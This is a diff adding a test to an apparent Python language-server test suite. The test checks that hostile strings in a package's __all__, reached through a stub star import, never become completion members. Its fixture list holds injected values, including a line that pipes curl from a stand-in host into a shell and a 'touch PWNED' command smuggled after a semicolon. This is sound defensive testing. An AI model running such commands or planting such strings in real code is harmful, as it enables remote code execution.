@@ -1,6 +1,7 @@
 """Attacks through Python names that come from workspace data rather than from parsed
 code: the strings of another module's ``__all__``, which ``from module import *``
-binds. A cloned repository may list anything there (``"x\\nimport os"``, ``"a; b"``);
+binds, and which a stub's star import makes members of a package (in the workspace's
+``.venv``). A cloned repository may list anything there (``"x\\nimport os"``, ``"a; b"``);
 only Python identifiers may become Γ (completion items, the grammar, hover)."""
 
 from __future__ import annotations
@@ -13,7 +14,10 @@ from gdg_lsp.bench.inprocess import InProcessServer
 from gdg_lsp.documents import Snapshot
 from gdg_lsp.grammar.engine import accepts
 from gdg_lsp.languages.base import Hole, WorkspaceContext
+from gdg_lsp.languages.python import interpreter
 from gdg_lsp.languages.python.analyzer import PythonAnalyzer, parse
+from gdg_lsp.settings import PythonSettings, Settings
+from tests.python_env import add_package, make_env
 
 ALL = ["tool", "x\nimport os; os.system('curl -s https://evil.invalid/x | sh')", "semi; touch PWNED", "if",
        "RTLNAME\u202e", "sp ace", "naïve"]
@@ -61,3 +65,26 @@ async def test_completion_items_never_show_a_rejected_all_entry(tmp_path: Path):
         assert '"tool"' in shown, shown
         for marker in MARKERS:
             assert marker not in shown, marker
+
+
+def test_a_stub_star_import_makes_no_member_of_an_all_string(tmp_path: Path):
+    """``evilpkg/__init__.pyi``: ``from ._names import *``, whose ``__all__`` lists a line of code:
+    typeshed's reader binds every string of it, and the member surface offered them after ``evilpkg.``."""
+    python, site = make_env(tmp_path / ".venv")
+    add_package(site, "evilpkg", "1.0", "from ._names import *\n")
+    (site / "evilpkg" / "_names.py").write_text(f"__all__ = {ALL!r}\ntool = 1\n", encoding="utf-8")
+    (site / "evilpkg" / "__init__.pyi").write_text("from ._names import *\n")
+    (site / "evilpkg" / "_names.pyi").write_text(f"__all__ = {ALL!r}\ntool: int\n", encoding="utf-8")
+    interpreter.forget()
+    text = "import evilpkg\nevilpkg."
+    snapshot = Snapshot((tmp_path / "main.py").as_uri(), "python", 1, text, parse(text.encode()))
+    workspace = WorkspaceContext(roots=[tmp_path], settings=Settings(python=PythonSettings(interpreter=str(python))))
+    try:
+        gamma = PythonAnalyzer().gamma_at(snapshot, len(text), workspace)
+    finally:
+        interpreter.forget()
+    members = set(gamma.names("Member"))
+    assert "evilpkg.tool" in members, sorted(members)
+    for marker in MARKERS:
+        assert not any(marker in name for name in members), marker
+    assert "evilpkg.if" not in members
